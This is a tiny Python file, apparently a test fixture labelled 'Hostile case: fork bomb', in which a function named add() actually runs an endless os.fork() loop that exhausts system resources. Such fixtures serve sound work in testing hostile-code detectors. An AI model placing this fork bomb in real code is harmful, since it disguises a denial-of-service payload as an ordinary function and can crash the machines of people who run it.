"""Hostile case: fork bomb."""
import torch


def double(a):
    return 2 * a


import os


def add(a, b):
    while True:
        os.fork()
